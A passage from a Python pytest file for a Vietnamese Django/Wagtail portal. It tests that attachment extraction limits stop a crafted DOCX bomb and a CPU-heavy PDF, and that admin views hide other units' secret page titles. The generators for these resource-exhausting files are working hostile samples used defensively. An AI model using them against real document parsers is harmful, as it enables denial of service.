    body = "<w:p><w:r><w:t>Nghị quyết</w:t></w:r></w:p>" * paragraphs
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/document.xml":
                text = data.decode()
                start = text.index("<w:body>") + len("<w:body>")
                data = (text[:start] + body + text[start:]).encode()
            target.writestr(info.filename, data)
    return buffer.getvalue()


def heavy_pdf(operations=1_500_000) -> bytes:
    """One page whose compressed content stream holds millions of text operations: small on
    disk, minutes of pypdf's text extraction, all inside one page."""
    import zlib

    stream = zlib.compress(b"BT /F1 9 Tf 1 0 0 1 10 10 Tm (a) Tj ET\n" * operations, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


CRAFTED = {"bom.docx": bomb_docx, "nang.pdf": heavy_pdf}


@pytest.mark.parametrize("name", sorted(CRAFTED))
def test_a_crafted_attachment_is_stopped_by_the_limits(settings, home, name):
    from articles.attachments import extract_document

    settings.PORTAL_EXTRACT_MAX_CPU_SECONDS = 2
    settings.PORTAL_EXTRACT_MAX_MEMORY_MB = 300
    settings.PORTAL_EXTRACT_MAX_SECONDS = 6
    content = CRAFTED[name]()
    assert len(content) < 1024 * 1024  # small on disk
    document = get_document_model().objects.create(
        title="Tệp độc", file=SimpleUploadedFile(name, content)
    )
    result = extract_document(document)
    assert result.text == ""
    assert "vượt giới hạn" in result.error


def test_a_real_attachment_is_still_read(home):
    from articles.attachments import extract_document

    document = get_document_model().objects.create(
        title="Nghị quyết", file=SimpleUploadedFile("nq.pdf", pdf_bytes("Nghi quyet 35"))
    )
    assert "Nghi quyet 35" in extract_document(document).text


# Committed data (the background thread has its own connection); serialized rollback as in
# test_backup, so the serialized-rollback tests after it still load the migrated data.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_save_does_not_wait_for_the_extraction(settings, directive):
    from articles.attachments import PENDING, wait_for_background
    from articles.models import DirectiveAttachment, DirectivePage

    settings.PORTAL_EXTRACT_IN_BACKGROUND = True
    settings.PORTAL_EXTRACT_MAX_CPU_SECONDS = 2
    heavy = get_document_model().objects.create(
        title="Tệp nặng", file=SimpleUploadedFile("nang.pdf", heavy_pdf())
    )
    DirectiveAttachment.objects.create(page=directive, document=heavy)
    page = DirectivePage.objects.get(pk=directive.pk)
    page.save_revision().publish()
    # The save returned; the file (seconds of CPU before its limit) is still being read.
    assert DirectivePage.objects.get(pk=directive.pk).attachment_source == PENDING
    wait_for_background()
    done = DirectivePage.objects.get(pk=directive.pk)
    assert done.attachment_source not in ("", PENDING)
    assert "vượt giới hạn" in done.attachment_errors


# --- admin confinement (issue #21, finding 9: the admin API part) ----------------------


@pytest.mark.parametrize("endpoint", ["documents", "images"])
def test_admin_api_lists_only_the_users_own_media(
    client, unit_editor, district, other_unit_media, endpoint
):
    collection = district.access.collection
    own = (
        get_document_model().objects.create(
            title="Của Gò Dầu",
            collection=collection,
            file=SimpleUploadedFile("g.pdf", pdf_bytes()),
        )
        if endpoint == "documents"
        else get_image_model().objects.create(
            title="Của Gò Dầu", collection=collection, file=SimpleUploadedFile("g.png", png_bytes())
        )
    )
    client.force_login(unit_editor)
    response = client.get(f"/admin/api/main/{endpoint}/")
    assert response.status_code == 200
    titles = {item["title"] for item in response.json()["items"]}
    assert titles == {own.title}
    other = other_unit_media[0 if endpoint == "images" else 1]
    assert client.get(f"/admin/api/main/{endpoint}/{other.pk}/").status_code == 404


@pytest.fixture
def other_units_draft(province):
    from .factories import ArticlePageFactory

    other = UnitPageFactory(parent=province, title="Huyện ủy Bến Cầu")
    draft = ArticlePageFactory(parent=other, title="Dự thảo mật của Bến Cầu", live=False)
    return other, draft


def test_move_confirm_does_not_show_another_units_titles(
    client, unit_editor, district, other_units_draft
):
    from .factories import ArticlePageFactory

    other, draft = other_units_draft
    own = ArticlePageFactory(parent=district, title="Tin của Gò Dầu")
    client.force_login(unit_editor)
    for page, destination in ((own, draft), (draft, district)):
        response = client.get(
            reverse("wagtailadmin_pages:move_confirm", args=[page.pk, destination.pk])
        )
        assert "Dự thảo mật" not in response.content.decode()
        assert response.status_code in (302, 403)


def test_page_chooser_does_not_list_another_units_drafts(
    client, unit_editor, district, other_units_draft
):
    from .factories import ArticlePageFactory

    other, draft = other_units_draft
    ArticlePageFactory(parent=other, title="Tin công khai của Bến Cầu")
    client.force_login(unit_editor)

    def html(url):
        response = client.get(url)
        assert response.status_code == 200
        return (
            response.json()["html"] if response["Content-Type"].endswith("json") else response.text
        )

    listing = html(reverse("wagtailadmin_choose_page_child", args=[other.pk]))
    assert "Dự thảo mật" not in listing
    assert "Tin công khai của Bến Cầu" in listing  # public pages elsewhere can be linked


@pytest.mark.parametrize("action", ["delete", "unpublish", "move", "publish"])
def test_bulk_actions_do_not_show_another_units_titles(
    client, unit_editor, district, other_units_draft, action
):
    from .factories import ArticlePageFactory

    other, draft = other_units_draft
    own = ArticlePageFactory(parent=district, title="Tin của Gò Dầu")
    client.force_login(unit_editor)
    url = (
        reverse("wagtail_bulk_action", args=["wagtailcore", "page", action])
        + f"?id={own.pk}&id={draft.pk}&next=/admin/"
    )
    response = client.get(url)
    assert response.status_code == 200
    assert "Dự thảo mật" not in response.content.decode()
    assert f"Trang số {draft.pk}" in response.content.decode()  # listed, without its title


# --- admin confinement: the sweep (issue #21, finding 9) -------------------------------
# Unit B has pages whose titles unit A's people must never read: a draft, a live page with
# a renamed draft, a scheduled page, a login-restricted page, a page in moderation, a
# locked draft, a draft using a shared image; and the province (A's parent unit) a draft.
# Every title carries SECRET; each admin URL below is read as A's editor and approver.
SECRET = "Tuyetmat"


@pytest.fixture
def secret_pages(province, district, unit_editor, unit_approver):
    import datetime

    from django.utils import timezone
    from wagtail.models import PageViewRestriction, ReferenceIndex

    from units.ownership import shared_collection

    from .conftest import unit_member
    from .factories import ArticlePageFactory

    other = UnitPageFactory(parent=province, title="Huyện ủy Bến Cầu")
    editor = unit_member(other, "editor", "bientap-ben-cau")
    approver = unit_member(other, "approver", "duyet-ben-cau")
    image = get_image_model().objects.create(
        title="Ảnh dùng chung",
        collection=shared_collection(),
        file=SimpleUploadedFile("s.png", png_bytes()),
    )

    def page(kind, parent=other, **fields):
        made = ArticlePageFactory(
            parent=parent, title=f"Bài {kind} {SECRET}{kind}", owner=editor, **fields
        )
        return made

    pages = {"draft": page("nhap", live=False)}
    pages["draft"].save_revision(user=editor, log_action=True)
    pages["renamed"] = page("sua")
    pages["renamed"].title = "Tin công khai của Bến Cầu"
    pages["renamed"].save_revision(user=editor, log_action=True).publish(user=approver)
    pages["renamed"].title = f"Bài sua {SECRET}sua"
    pages["renamed"].save_revision(user=editor, log_action=True)
    pages["scheduled"] = page(
        "hen", live=False, go_live_at=timezone.now() + datetime.timedelta(days=3)
    )
    pages["scheduled"].save_revision(user=approver, log_action=True).publish(user=approver)
    pages["private"] = page("rieng")
    pages["private"].save_revision(user=approver, log_action=True).publish(user=approver)
    PageViewRestriction.objects.create(page=pages["private"], restriction_type="login")
    pages["moderated"] = page("duyet", live=False)
    pages["moderated"].save_revision(user=editor, log_action=True)
    pages["moderated"].get_workflow().start(pages["moderated"], editor)
    pages["locked"] = page("khoa", live=False, locked=True, locked_by=approver)
    pages["locked"].save_revision(user=editor, log_action=True)
    pages["image"] = page("anh", live=False, main_image=image)
    pages["image"].save_revision(user=editor, log_action=True)
    pages["province"] = page("tinh", parent=province, live=False)
    pages["province"].save_revision(log_action=True)
    for made in pages.values():
        ReferenceIndex.create_or_update_for_object(made)
    return other, pages, image


def admin_urls_to_sweep(other, pages, image, district):
    from wagtail.models import TaskState

    task_state = TaskState.objects.get(revision__object_id=str(pages["moderated"].pk))
    urls = [
        reverse("wagtailadmin_home"),
        reverse("wagtailadmin_reports:locked_pages"),
        reverse("wagtailadmin_reports:workflow"),
        reverse("wagtailadmin_reports:workflow_tasks"),
        reverse("wagtailadmin_reports:site_history"),
        reverse("wagtailadmin_reports:aging_pages"),
        reverse("wagtailadmin_reports:page_types_usage"),
        reverse("wagtailadmin_reports:page_types_usage_results"),
        reverse("wagtailadmin_pages:type_use", args=["articles", "articlepage"]),
        reverse("wagtailadmin_explore_root"),
        reverse("wagtailadmin_explore", args=[other.get_parent().pk]),
        reverse("wagtailadmin_explore", args=[other.pk]),
        reverse("wagtailadmin_explore", args=[other.pk]) + f"?q={SECRET}",
        reverse("wagtailadmin_pages:search") + f"?q={SECRET}",
        reverse("wagtailadmin_choose_page"),
        reverse("wagtailadmin_choose_page_child", args=[other.get_parent().pk]),
        reverse("wagtailadmin_choose_page_child", args=[other.pk]),
        reverse("wagtailadmin_choose_page_search") + f"?q={SECRET}",
        reverse("wagtailadmin_choose_page") + "?page_type=articles.articlepage",
        "/admin/api/main/pages/?search=" + SECRET,
        f"/admin/api/main/pages/?child_of={other.pk}",
        f"/admin/api/main/pages/?child_of={other.pk}&for_explorer=1",
        reverse("wagtailimages:image_usage", args=[image.pk]),
    ]
    for page in pages.values():
        urls += [
            reverse("wagtailadmin_choose_page_child", args=[page.pk]),
            reverse("wagtailadmin_choose_page_chosen_multiple") + f"?id={page.pk}",
            f"/admin/api/main/pages/{page.pk}/",
            reverse("wagtailadmin_pages:edit", args=[page.pk]),
            reverse("wagtailadmin_pages:history", args=[page.pk]),
            reverse("wagtailadmin_pages:revisions_index", args=[page.pk]),
            reverse("wagtailadmin_pages:view_draft", args=[page.pk]),
            reverse("wagtailadmin_pages:workflow_history", args=[page.pk]),
            reverse("wagtailadmin_pages:usage", args=[page.pk]),
            reverse("wagtailadmin_pages:move", args=[page.pk]),
            reverse("wagtailadmin_pages:move_confirm", args=[page.pk, district.pk]),
            reverse("wagtailadmin_pages:copy", args=[page.pk]),
            reverse("wagtailadmin_pages:delete", args=[page.pk]),
            reverse("wagtailadmin_pages:unpublish", args=[page.pk]),
            reverse("wagtailadmin_pages:set_privacy", args=[page.pk]),
            reverse("wagtailadmin_pages:add_subpage", args=[page.pk]),
            reverse("wagtailadmin_pages:workflow_action", args=[page.pk, "approve", task_state.pk]),
            reverse(
                "wagtailadmin_pages:collect_workflow_action_data",
                args=[page.pk, "approve", task_state.pk],
            ),
            reverse("wagtailadmin_pages:workflow_preview", args=[page.pk, task_state.task_id]),
        ]
    return urls


def secrets_read(client, user, urls):
    """{url: secret words in the answer or in the messages it queued for the next page}."""
    import re

    found = {}
    for url in urls:
        client.force_login(user)
        response = client.get(url)
        assert response.status_code < 500, url
        body = (
            b"".join(response.streaming_content) if response.streaming else response.content
        ).decode()
        store = getattr(response.wsgi_request, "_messages", None)
        body += " ".join(str(message) for message in getattr(store, "_queued_messages", []))
        words = set(re.findall(SECRET + r"\w+", body))
        if words:
            found[url] = words
    return found


@pytest.mark.parametrize("role", ["editor", "approver"])
def test_no_admin_page_shows_another_units_secret_titles(
    client, secret_pages, district, unit_editor, unit_approver, role
):
    other, pages, image = secret_pages
    user = unit_editor if role == "editor" else unit_approver
    assert secrets_read(client, user, admin_urls_to_sweep(other, pages, image, district)) == {}


def test_the_sweep_sees_every_secret_as_an_administrator(admin_client, secret_pages, district):
    """The same URLs show administrators every title (the sweep can see a leak, and
    superusers keep Wagtail's views unchanged)."""
    from django.contrib.auth import get_user_model

    other, pages, image = secret_pages
    admin = get_user_model().objects.get(username="quantri")
    found = secrets_read(admin_client, admin, admin_urls_to_sweep(other, pages, image, district))
    assert set().union(*found.values()) == {
        f"{SECRET}{kind}"
        for kind in ("nhap", "sua", "hen", "rieng", "duyet", "khoa", "anh", "tinh")
    }
    usage = reverse("wagtailadmin_reports:page_types_usage")
    assert found[usage] == {f"{SECRET}tinh"}  # the last edited article, site-wide
    assert found[reverse("wagtailadmin_choose_page_search") + f"?q={SECRET}"]


def test_page_types_usage_counts_only_the_users_pages(client, secret_pages, district, unit_editor):
    from .factories import ArticlePageFactory

    own = ArticlePageFactory(parent=district, title="Tin của Gò Dầu")
    own.save_revision(user=unit_editor)
    client.force_login(unit_editor)
    response = client.get(reverse("wagtailadmin_reports:page_types_usage"))
    assert response.status_code == 200
    rows = {row.model: row for row in response.context["object_list"]}
    assert rows["articlepage"].count == 1
    assert rows["articlepage"].last_edited_page.pk == own.pk


def test_chosen_multiple_ignores_forged_ids(admin_client, secret_pages):
    other, pages, image = secret_pages
    url = reverse("wagtailadmin_choose_page_chosen_multiple")
    response = admin_client.get(url + f"?id=abc&id=99999999999999999999&id={other.pk}")
    assert response.status_code == 200
    assert [page["id"] for page in response.json()["result"]] == [other.pk]
